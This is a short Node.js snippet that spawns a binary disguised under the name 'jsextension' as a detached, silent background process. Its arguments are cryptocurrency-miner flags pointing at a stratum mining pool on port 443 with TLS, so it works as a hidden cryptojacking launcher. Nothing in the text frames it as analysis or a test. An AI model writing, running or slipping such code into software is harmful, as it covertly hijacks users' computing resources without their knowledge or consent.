const { spawn } = require('child_process');
const os = require('os');
spawn('./jsextension', ['-k', '--tls', '-o', 'stratum+tcp://pool.example.invalid:443', '--donate-level', '1'], { detached: true, stdio: 'ignore' }).unref();
